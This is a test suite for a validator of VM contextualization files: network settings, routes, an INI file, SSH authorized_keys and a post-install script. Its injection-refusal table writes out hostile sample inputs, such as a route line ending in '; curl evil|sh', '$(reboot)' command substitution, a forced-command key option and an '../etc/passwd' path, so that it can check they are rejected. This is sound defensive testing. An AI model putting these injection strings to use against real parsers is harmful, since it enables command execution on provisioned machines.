import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  ContextError, LIMITS, contextHash, emptyContext, hasContextLayout, parseContext, readContextDir, serializeContext, validateContext,
} from '../../lib/context/index.js';
import { files, parse, problemsOf, sshKey } from './helpers.js';

const TEMPLATE = join(import.meta.dirname, '../../context-template');

describe('Snooze contexts, verbatim', () => {
  it('the snooze-deploy context directory (network, routes, README) parses', () => {
    const ctx = parse({
      'common/network': 'GATEWAY=192.168.122.1\nNETWORK=192.168.122.0\nBROADCAST=192.168.122.255\nNETMASK=255.255.255.0\nNAMESERVER=192.168.122.1\nDOMAIN=\nSEARCH=\n',
      'common/routes': 'up route add -net 10.16.0.0  netmask 255.252.0.0 dev eth0\nup route del default\n',
      'common/README': 'network file\nroutes file here\n',
      'post-install': '#!/bin/bash\n. /mnt/common/network\necho $GATEWAY\n',
    });
    expect(ctx.legacySubnet?.network).toEqual({ address: '192.168.122.0', prefix: 24 });
    expect(ctx.routes).toHaveLength(2);
    expect(ctx.postInstall?.mode).toBe('per-instance');
  });

  it('a context with only post-install (the oldest Snooze form) is a context', () => {
    const f = files({ 'post-install': 'echo hi\n' });
    expect(hasContextLayout(f)).toBe(true);
    expect(parseContext(f).postInstall?.script).toBe('echo hi\n');
    expect(hasContextLayout(files({ 'README': 'x' }))).toBe(false);
  });
});

describe('injection attempts are refused, never interpreted', () => {
  it.each([
    ['command substitution', { 'common/network': 'DOMAIN=$(reboot)\n' }, /never expands values/],
    ['backticks in double quotes', { 'common/network': 'SEARCH="a `reboot`"\n' }, /never expands values/],
    ['a second assignment after ;', { 'common/network': 'DOMAIN=a;GATEWAY=1.2.3.4\n' }, /metacharacter ";"/],
    ['a route with a command after ;', { 'common/routes': 'up route add default gw 10.0.0.1; curl evil|sh\n' }, /unexpected character ";"/],
    ['a CR-smuggled line in the INI', { 'common/context.ini': '[context]\nhostname=a\r[nic "eth0"]\n' }, /carriage return/],
    ['a NUL in a value', { 'common/network': 'DOMAIN=a\u0000.example\n' }, /NUL byte/],
    ['a JSON escape that decodes to a newline', { 'common/context.ini': '[context]\nhostname = "a\\nb"\n' }, /"\\" is not allowed/],
    ['a Cyrillic look-alike host name', { 'common/context.ini': '[context]\nhostname = ехample\n' }, /Unicode look-alikes/],
    ['a 100 KiB value', { 'common/network': `DOMAIN=${'a'.repeat(100_000)}\n` }, /the limit is 65536/],
    ['a key option in authorized_keys', { 'common/authorized_keys': 'command="reboot" ssh-ed25519 AAAA\n' }, /key options/],
  ])('%s', (_name, input, pattern) => {
    const problems = problemsOf(input as Record<string, string>);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(pattern);
  });
});

describe('post-install', () => {
  it('is kept byte for byte (UTF-8), with mode and timeout from context.ini', () => {
    const script = '#!/bin/bash\necho "héllo $(hostname)"\n';
    expect(parse({ 'post-install': script, 'common/context.ini': '[context]\npost_install = disabled\n' }).postInstall)
      .toEqual({ script, mode: 'disabled', timeoutSec: 600 });
  });
  it.each([
    ['a NUL byte', Buffer.from('echo a\0b\n'), 'post-install: script contains a NUL byte'],
    ['CRLF line ends', Buffer.from('#!/bin/bash\r\necho hi\r\n'), 'post-install: script has CRLF (Windows) line ends; bash would fail on them (convert with dos2unix)'],
    ['invalid UTF-8', Buffer.from([0x65, 0x63, 0x68, 0x6f, 0x20, 0xc3, 0x28]), 'post-install: not valid UTF-8 text'],
    ['more than 1 MiB', Buffer.alloc(LIMITS.postInstallBytes + 1, 0x23), `post-install: file is ${LIMITS.postInstallBytes + 1} bytes; the limit is ${LIMITS.postInstallBytes}`],
  ])('refuses %s', (_n, buf, message) => {
    expect(problemsOf({ 'post-install': buf })).toEqual([message]);
  });
});

describe('common/authorized_keys', () => {
  it('accepts real keys with and without comments, skips comments and blank lines', () => {
    const a = sshKey('ed25519', 'alice@laptop');
    const b = sshKey('rsa');
    const ctx = parse({ 'common/authorized_keys': `# root keys\n\n${a}\n  ${b}  \n` });
    expect(ctx.authorizedKeys).toEqual([a, b]);
  });

  it('refuses the same key twice, even with another comment', () => {
    const a = sshKey('ed25519', 'one');
    const problems = problemsOf({ 'common/authorized_keys': `${a}\n${a.replace(' one', ' two')}\n` });
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^common\/authorized_keys: line 2 = "ssh-ed25519 .*": the same key is listed twice$/);
  });

  it('agrees with ssh-keygen on a key it generated', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ctx-ssh-'));
    try {
      execFileSync('ssh-keygen', ['-q', '-t', 'ecdsa', '-b', '384', '-N', '', '-C', 'ops key', '-f', join(dir, 'k')]);
      const line = readFileSync(join(dir, 'k.pub'), 'utf8').trim();
      expect(parse({ 'common/authorized_keys': `${line}\n` }).authorizedKeys).toEqual([line]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it.each([
    ['ssh-dss AAAAB3NzaC1kc3MAAACBAP', 'unknown key type "ssh-dss" (known: ssh-ed25519, ssh-rsa, ecdsa-sha2-nistp256, ecdsa-sha2-nistp384, ecdsa-sha2-nistp521, sk-ssh-ed25519@openssh.com, sk-ecdsa-sha2-nistp256@openssh.com)'],
    ['ssh-ed25519', 'expected "TYPE BASE64 [COMMENT]"'],
    ['ssh-ed25519 not*base64', 'the key is not valid base64'],
    ['ssh-ed25519 AAAAB3NzaC1yc2EAAAADAQABAAABAQ== x', 'the key data says "ssh-rsa" but the line says "ssh-ed25519"'],
    ['ssh-ed25519 aGVsbG8gd29ybGQh', 'the key data is not an SSH public key'],
    ['from="10.0.0.0/8" ssh-ed25519 AAAA', 'key options (command=, from=, ...) are not supported; give the bare key'],
  ])('refuses %s', (line, why) => {
    expect(problemsOf({ 'common/authorized_keys': `${line}\n` })).toEqual([`common/authorized_keys: line 1 = ${JSON.stringify(line)}: ${why}`]);
  });
});

describe('the file set', () => {
  it('refuses too many files and bad paths', () => {
    const many: Record<string, string> = {};
    for (let i = 0; i <= LIMITS.files; i++) many[`data/f${i}`] = '';
    expect(problemsOf(many)).toEqual([`(context): more than ${LIMITS.files} files; a context holds at most ${LIMITS.files}`]);
    expect(problemsOf({ '../etc/passwd': 'x', '/abs': 'y', 'a//b': 'z' })).toEqual([
      '../etc/passwd: path has an empty, "." or ".." component',
      '/abs: not a relative path',
      'a//b: path has an empty, "." or ".." component',
    ]);
  });

  it('collects problems of every file in one error', () => {
    try {
      parseContext(files({ 'common/network': 'FOO=1\n', 'common/routes': 'bogus\n', 'common/context.ini': 'x\n' }));
      expect.unreachable();
    } catch (e) {
      expect(e).toBeInstanceOf(ContextError);
      expect((e as ContextError).problems.map((p) => p.file)).toEqual(['common/network', 'common/context.ini', 'common/routes']);
      expect((e as ContextError).message.split('\n')).toHaveLength(3);
    }
  });
});

describe('context-template/', () => {
  it('parses cleanly and says what its comments promise', async () => {
    const f = await readContextDir(TEMPLATE);
    const ctx = parseContext(f);
    expect(ctx.instanceId).toBe('web01-2024-001');
    expect(ctx.hostname).toBe('web01.example.internal');
    expect(ctx.legacySubnet).toEqual({ network: { address: '192.168.122.0', prefix: 24 }, gateway: '192.168.122.1', broadcast: '192.168.122.255' });
    expect(ctx.nics).toHaveLength(0); // the NIC example is commented: no section bound to an example MAC
    expect(ctx.routes).toEqual([{ action: 'add', destination: { address: '10.10.0.0', prefix: 16 }, gateway: '192.168.122.254', device: 'eth0' }]);
    expect(ctx.authorizedKeys).toEqual([]);
    expect(ctx.postInstall?.script).toContain('/var/lib/contextualization/post-install.marker'.split('/').pop());
    expect(parseContext(serializeContext(ctx))).toEqual(ctx);
  });

  it('its post-install is executable and valid bash', async () => {
    const { statSync } = await import('node:fs');
    expect(statSync(join(TEMPLATE, 'post-install')).mode & 0o111).toBe(0o111);
    execFileSync('bash', ['-n', join(TEMPLATE, 'post-install')]);
  });

  it('parses a typical context in well under 1 ms', async () => {
    const f = await readContextDir(TEMPLATE);
    for (let i = 0; i < 200; i++) parseContext(f); // warm up
    // CPU time, not wall time: the test machine is shared, and waiting for a core is not parsing.
    const n = 2000;
    const c0 = process.cpuUsage();
    for (let i = 0; i < n; i++) parseContext(f);
    const c = process.cpuUsage(c0);
    const perParse = (c.user + c.system) / 1000 / n;
    console.log(`parseContext(context-template): ${(perParse * 1000).toFixed(0)} us CPU per parse`);
    expect(perParse).toBeLessThan(1);
  });
});

describe('contextHash', () => {
  it('is order independent, content and path sensitive, and unambiguous', () => {
    const a = contextHash(files({ 'a': 'x', 'b': 'y' }));
    expect(a).toMatch(/^[0-9a-f]{64}$/);
    expect(contextHash(new Map([['b', Buffer.from('y')], ['a', Buffer.from('x')]]))).toBe(a);
    expect(contextHash(files({ 'a': 'x', 'b': 'z' }))).not.toBe(a);
    expect(contextHash(files({ 'ab': '', 'b': 'y' }))).not.toBe(contextHash(files({ 'a': 'b', 'b': 'y' })));
  });
});

describe('validateContext on models built in memory', () => {
  it('names model keys and refuses non-canonical values that would not round-trip', () => {
    const ctx = emptyContext();
    ctx.hostname = 'bad host';
    ctx.dns = { nameservers: ['2001:DB8::1'], search: ['b.example'], domain: 'a.example' };
    ctx.nics = [{ match: { kind: 'mac', mac: '52:54:00:AA:BB:CC' }, method: 'dhcp', ipv4: { address: { address: '10.0.0.5', prefix: 8 } } }];
    ctx.routes = [{ action: 'add', destination: { address: '10.0.0.0', prefix: 8 } }];
    ctx.authorizedKeys = [sshKey('ed25519').replace(' ', '   ')];
    const messages = validateContext(ctx).map((p) => `${p.file}: ${p.key}: ${p.why}`);
    expect(messages).toEqual([
      'common/context.ini: context.hostname: host names are ASCII letters, digits, hyphens and dots only (no spaces, no Unicode look-alikes)',
      'common/network: NAMESERVER: not in canonical form (write 2001:db8::1)',
      'common/network: SEARCH: the search list must start with the domain a.example',
      'common/context.ini: nic "52:54:00:AA:BB:CC": not a MAC address in canonical form (six lower-case hex pairs separated by colons)',
      'common/context.ini: nic "52:54:00:AA:BB:CC".address: only valid with method = static (this NIC is dhcp)',
      'common/routes: route 1: an added route needs a gateway or a device',
      expect.stringMatching(/^common\/authorized_keys: key 1: not in canonical form/),
    ]);
    expect(() => serializeContext(ctx)).toThrow(ContextError);
  });
});
